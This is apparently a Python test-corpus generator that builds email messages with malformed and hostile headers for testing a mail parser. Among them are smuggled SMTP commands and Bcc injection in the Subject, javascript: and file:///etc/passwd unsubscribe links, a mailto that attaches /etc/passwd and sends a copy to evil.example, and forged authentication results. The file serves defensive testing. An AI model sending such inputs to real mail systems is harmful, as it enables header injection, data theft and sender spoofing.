"""Header fields as they come: senders of every form (RFC 5322 section 3.4), fields twice, folded, forged."""

from __future__ import annotations

from tests.corpus.make.handwriting import Messages, Text, letter, wire

_SENDERS: dict[str, Text] = {
    "bare": "nina@letters.example",
    "with-a-comment": "nina@letters.example (Nina (of the letters) Keller)",
    "with-a-comment-inside": "Nina (not Bob) Keller <nina@letters.example>",
    "with-a-route": "Nina <@relay.example,@other.example:nina@letters.example>",
    "with-a-quoted-comma": '"Keller, Nina" <nina@letters.example>',
    "with-a-loose-comma": "Keller, Nina <nina@letters.example>",
    "with-quotes-in-quotes": r'"Nina \"the pen\" Keller" <nina@letters.example>',
    "with-a-quote-without-an-end": '"Nina Keller <nina@letters.example>',
    "with-an-angle-without-an-end": "Nina Keller <nina@letters.example",
    "with-doubled-angles": "Nina Keller <<nina@letters.example>>",
    "with-dots": "Nina K. Keller jr. <nina@letters.example>",
    "two": "nina@letters.example, oscar@letters.example",
    "two-with-a-sender": "nina@letters.example, oscar@letters.example\nSender: oscar@letters.example",
    "two-without-a-comma": "nina@letters.example oscar@letters.example",
    "two-with-a-semicolon": "nina@letters.example; oscar@letters.example",
    "group": "Writers: nina@letters.example, oscar@letters.example;",
    "group-of-nobody": "undisclosed-recipients:;",
    "empty": "",
    "empty-angles": "<>",
    "a-name-alone": "Nina Keller",
    "no-domain": "nina",
    "only-an-at": "@",
    "in-capitals": "NINA@LETTERS.EXAMPLE",
    "quoted-local-part": '"nina keller"@letters.example',
    "quoted-local-part-with-an-at": '"nina@bank.example"@letters.example',
    "address-literal": "nina@[192.0.2.1]",
    "beyond-ascii": "Nina Käller <ñina@bücher.example>",
    "name-in-raw-latin": b"Nina K\xe4ller <nina@letters.example>",
    "name-as-an-encoded-word": "=?utf-8?q?Nina_K=C3=A4ller?= <nina@letters.example>",
    "name-as-an-encoded-word-in-quotes": '"=?utf-8?q?Nina_K=C3=A4ller?=" <nina@letters.example>',
    "name-as-a-comma-encoded": "=?utf-8?q?Keller=2C_Nina?= <nina@letters.example>",
    "folded-everywhere": "Nina\n Keller\n\t<nina@letters.example>",
    "folded-in-the-address": "Nina <nina@\n letters.example>",
    "tabs": "\tNina\tKeller\t<nina@letters.example>\t",
}


def messages(_: object) -> Messages:
    for name, value in _SENDERS.items():
        yield f"from-{name}", letter("words\n", b"From: " + wire(value))
    yield from _twice()
    yield from _fields()
    yield from _dates()
    yield from _lists()
    yield from _receipts()
    yield from _authentication()


def _twice() -> Messages:
    yield (
        "from-twice",
        letter("words\n", "From: nina@letters.example", "From: Bob Example <bob@corpus.example>"),
    )
    yield "from-twice-the-same", letter("words\n", "From: nina@letters.example", "FROM: nina@letters.example")
    yield "from-missing", letter("words\n").partition(b"\r\n")[2]
    yield "from-missing-with-a-sender", letter("words\n", "Sender: bob@corpus.example").partition(b"\r\n")[2]
    yield "from-with-a-blank-before-its-colon", letter("words\n", "From : nina@letters.example")
    yield "subject-twice", letter("words\n", "Subject: The first", "Subject: The second")
    yield "subject-missing", letter("words\n").replace(b"Subject: A letter\r\n", b"")
    yield (
        "date-twice",
        letter("words\n", "Date: Mon, 03 Jun 2024 09:30:00 +0000", "Date: Mon, 03 Jun 2020 09:30:00 +0000"),
    )
    yield "to-twice", letter("words\n", "To: alice@corpus.example", "To: bob@corpus.example")
    yield "resent", letter("words\n", "Resent-From: bob@corpus.example", "Resent-To: alice@corpus.example")
    yield "sender-unlike-from", letter("words\n", "From: nina@letters.example", "Sender: bob@corpus.example")


def _fields() -> Messages:
    yield "line-without-a-colon", letter("words\n", "this line is no field", "X-After: yes")
    yield "field-name-with-blanks", letter("words\n", "Not A Field: value")
    yield "field-name-beyond-ascii", letter("words\n", "Größe: value")
    yield "field-without-a-value", letter("words\n", "X-Empty:", "Cc:")
    yield "1000-received-fields", letter("words\n", *["Received: from a.example by b.example; now"] * 1000)
    yield (
        "recipients-of-100",
        letter("words\n", "To: " + ",\n ".join(f"p{n}@letters.example" for n in range(100))),
    )
    yield "undisclosed-recipients", letter("words\n", "To: undisclosed-recipients:;")
    yield "message-id-with-blanks", letter("words\n", "Message-ID: < a b @letters.example>")
    yield "message-id-without-angles", letter("words\n", "Message-ID: 1@letters.example")
    yield (
        "references-of-1000",
        letter("words\n", "References:" + "".join(f"\n <{n}@letters.example>" for n in range(1000))),
    )
    yield "smtp-in-the-subject", letter("words\n", b"Subject: one\r\n.\r\nMAIL FROM:<x@evil.example>\r\n two")
    yield "carriage-return-in-the-subject", letter("words\n", b"Subject: one\rBcc: two@evil.example")


def _dates() -> Messages:
    for name, value in (
        ("without-a-weekday", "03 Jun 2024 09:30 +0100"),
        ("with-a-two-digit-year", "Mon, 03 Jun 26 09:30:00 GMT"),
        ("with-a-comment", "Mon, 03 Jun 2024 09:30:00 +0100 (CET)"),
        ("with-an-impossible-day", "Tue, 42 Nov 2024 09:30:00 +0100"),
        ("with-an-impossible-zone", "Mon, 03 Jun 2024 09:30:00 +9999"),
        ("in-the-year-one", "Mon, 1 Jan 0001 00:00:00 +1400"),
        ("in-the-year-9999", "Fri, 31 Dec 9999 23:59:59 -1200"),
        ("in-iso-8601", "2024-11-10T09:30:00+01:00"),
        ("of-nonsense", "yesterday at noon"),
        ("of-huge-numbers", "Mon, 03 Jun 999999999999 99999999:30:00 +0100"),
        ("empty", ""),
    ):
        yield f"date-{name}", letter("words\n", f"Date: {value}")


def _lists() -> Messages:
    about = "List-Id: Writers <writers.letters.example>"
    yield (
        "list-mail",
        letter(
            "words\n-- \nWriters mailing list\n",
            about,
            "List-Post: <mailto:writers@letters.example>",
            "List-Unsubscribe: <https://letters.example/leave?me>, <mailto:leave@letters.example?subject=go>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            "List-Archive: <https://letters.example/archive>",
        ),
    )
    yield (
        "list-unsubscribe-by-script",
        letter("words\n", about, "List-Unsubscribe: <javascript:alert(1)>, <file:///etc/passwd>"),
    )
    yield (
        "list-unsubscribe-without-angles",
        letter("words\n", about, "List-Unsubscribe: https://letters.example/leave"),
    )
    yield (
        "list-unsubscribe-that-attaches",
        letter(
            "words\n",
            about,
            "List-Unsubscribe: <mailto:leave@letters.example?attach=/etc/passwd&bcc=x@evil.example>",
        ),
    )


def _receipts() -> Messages:
    yield "receipt-asked-for", letter("words\n", "Disposition-Notification-To: Nina <nina@letters.example>")
    yield "receipt-to-another", letter("words\n", "Disposition-Notification-To: spy@evil.example")
    yield (
        "receipt-to-many",
        letter(
            "words\n", "Disposition-Notification-To: " + ", ".join(f"v{n}@evil.example" for n in range(50))
        ),
    )
    yield (
        "receipt-in-the-old-forms",
        letter(
            "words\n", "Return-Receipt-To: nina@letters.example", "X-Confirm-Reading-To: nina@letters.example"
        ),
    )


def _authentication() -> Messages:
    passed = (
        "Authentication-Results: {by}; dkim=pass header.d=bank.example; dmarc=pass header.from=bank.example"
    )
    sender = "From: Bank <service@bank.example>"
    genuine = passed.format(by="mx.corpus.example")
    forged = passed.format(by="mx.evil.example")
    yield "authentication-passed", letter("words\n", sender, genuine)
    yield "authentication-failed", letter("words\n", sender, genuine.replace("pass", "fail"))
    yield "authentication-by-a-stranger", letter("words\n", sender, forged)
    yield "authentication-twice", letter("words\n", sender, genuine.replace("pass", "fail"), genuine)
    received = "Received: from sender.example by mx.corpus.example; Mon, 03 Jun 2024 09:30:01 +0200"
    yield "authentication-brought-along", letter("words\n", sender, received, genuine)
    yield (
        "authentication-with-words-of-the-banner",
        letter(
            "words\n",
            sender,
            'Authentication-Results: mx.corpus.example; openpgp=pass (Encrypted and verified) reason="B24"',
        ),
    )
    yield (
        "authentication-chain",
        letter(
            "words\n",
            sender,
            "ARC-Seal: i=1; a=rsa-sha256; cv=none; d=letters.example; s=a; b=AAAA",
            "ARC-Authentication-Results: i=1; letters.example; dkim=pass header.d=bank.example",
        ),
    )
    yield (
        "security-words-in-own-fields",
        letter(
            "words\n",
            "X-Enigmail-Security: good",
            "X-MailGuard-Banner: B24",
            "X-OpenPGP-Signature: valid",
            "X-Pgp: verified",
        ),
    )
